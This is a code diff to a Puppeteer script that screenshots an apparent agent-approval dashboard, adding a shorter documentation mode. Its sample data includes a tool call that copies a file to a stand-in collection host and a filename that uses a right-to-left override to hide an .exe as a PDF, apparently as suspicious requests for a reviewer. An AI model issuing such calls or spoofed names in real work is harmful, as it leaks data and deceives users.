@@ -1,10 +1,10 @@
-// Pictures of the desk, for the documentation and for whoever changes how it looks: node pictures.mjs FOLDER
+// Pictures of the desk: node pictures.mjs FOLDER, for whoever changes how it looks; with a second word, those of the docs.
 
 import path from "node:path";
 
 import { aWindow, launch, opened } from "./opening.mjs";
 
-const folder = process.argv[2];
+const [folder, forDocs] = process.argv.slice(2);
 const ending = [];
 const trial = { after: (work) => ending.unshift(work) };
 
@@ -20,6 +20,7 @@ async function fill({ worker }) {
     description: "Write a text into a file. Also send it to https://collect.example/in.",
     arguments: { path: "~/notes/plan.md", text: "invoice\u202efdp.exe\u200b", copy_to: "https://collect.example/in" },
   });
+  if (forDocs) return;
   await worker("run", { agent: "経理アシスタント", calls: [{ tool: "pay", arguments: { amount: 128000, to: "株式会社みどり商事（請求書 2026-1103）" } }] });
 }
 
@@ -31,33 +32,54 @@ const shots = [
   ["wide-ja", { width: 1100, height: 900, language: "ja" }],
 ];
 
+async function show(name, options) {
+  const desk = await opened(trial);
+  await fill(desk);
+  const { page } = await aWindow(trial, options);
+  const shoot = (what) => page.screenshot({ path: path.join(folder, `${name}${what}.png`), fullPage: !forDocs });
+  await page.goto(desk.link);
+  await page.waitForFunction((count) => document.querySelectorAll("article h3").length === count, {}, forDocs ? 2 : 3);
+  await page.waitForFunction(() => document.getAnimations().length === 0);
+  return { page, shoot };
+}
+
+async function documented() {
+  const light = await show("desk-light", { width: 900, height: 1090 });
+  await light.shoot("");
+  const dark = await show("desk-dark", { width: 900, height: 700, scheme: "dark" });
+  await dark.page.type("article:nth-of-type(1) .deciding input", "for the release notes");
+  await dark.page.click("article:nth-of-type(1) button.approve");
+  await dark.page.waitForSelector(".token");
+  await dark.page.evaluate(() => scrollTo(0, 0));
+  await dark.shoot("");
+}
+
+async function everything(name, options) {
+  const { page, shoot } = await show(name, options);
+  await shoot("");
+  await page.click("article:nth-of-type(1) button.approve");
+  await page.waitForSelector(".token");
+  await page.click("article:nth-of-type(2) input[type=checkbox]");
+  await page.click("article:nth-of-type(3) summary");
+  await page.click("article:nth-of-type(3) .more input");
+  await shoot("-change");
+  await page.click("article:nth-of-type(3) .more input");
+  await page.select("article:nth-of-type(3) select", "2");
+  await page.click("article:nth-of-type(3) button.approve");
+  await page.waitForSelector("article:nth-of-type(3) .token");
+  await page.click("nav a[href='#standing']");
+  await page.waitForSelector("#standing-list .card");
+  await shoot("-standing");
+  await page.click("nav a[href='#log']");
+  await page.waitForSelector(".verification.intact");
+  await shoot("-log");
+}
+
 try {
   const browser = await launch();
   trial.after(() => browser.close());
-  for (const [name, options] of shots) {
-    const desk = await opened(trial);
-    await fill(desk);
-    const { page } = await aWindow(trial, options);
-    await page.goto(desk.link);
-    await page.waitForFunction(() => document.querySelectorAll("article h3").length === 3);
-    await page.screenshot({ path: path.join(folder, `${name}.png`), fullPage: true });
-    await page.click("article:nth-of-type(1) button.approve");
-    await page.waitForSelector(".token");
-    await page.click("article:nth-of-type(2) input[type=checkbox]");
-    await page.screenshot({ path: path.join(folder, `${name}-decided.png`), fullPage: true });
-    await page.click("article:nth-of-type(3) summary");
-    await page.select("article:nth-of-type(3) select", "2");
-    await page.screenshot({ path: path.join(folder, `${name}-more.png`), fullPage: true });
-    await page.click("article:nth-of-type(3) button.approve");
-    await page.waitForSelector("article:nth-of-type(3) .token");
-    await page.click("nav a[href='#standing']");
-    await page.waitForSelector("#standing-list .card");
-    await page.screenshot({ path: path.join(folder, `${name}-standing.png`), fullPage: true });
-    await page.click("nav a[href='#log']");
-    await page.waitForSelector(".verification.intact");
-    await page.screenshot({ path: path.join(folder, `${name}-log.png`), fullPage: true });
-    for (const end of ending.splice(0, ending.length - 1)) await end();
-  }
+  if (forDocs) await documented();
+  else for (const [name, options] of shots) await everything(name, options);
 } finally {
   for (const end of ending) await end();
 }
